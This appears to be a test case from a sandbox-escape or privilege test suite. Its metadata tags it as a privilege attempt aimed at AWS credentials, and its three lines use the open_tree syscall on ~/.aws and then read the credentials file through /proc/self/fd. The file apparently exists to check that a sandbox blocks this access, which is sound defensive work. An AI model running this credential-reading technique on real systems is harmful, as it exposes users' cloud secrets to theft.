#: {"class": "privilege", "loader": "script", "include": ["raw"], "expect": [["open_tree|mount", "."]], "effect": {"loot": "aws"}}
d = sysc(428, -100, (HOME + "/.aws").encode(), 1)
LOOT(open("/proc/self/fd/%d/credentials" % d).read())
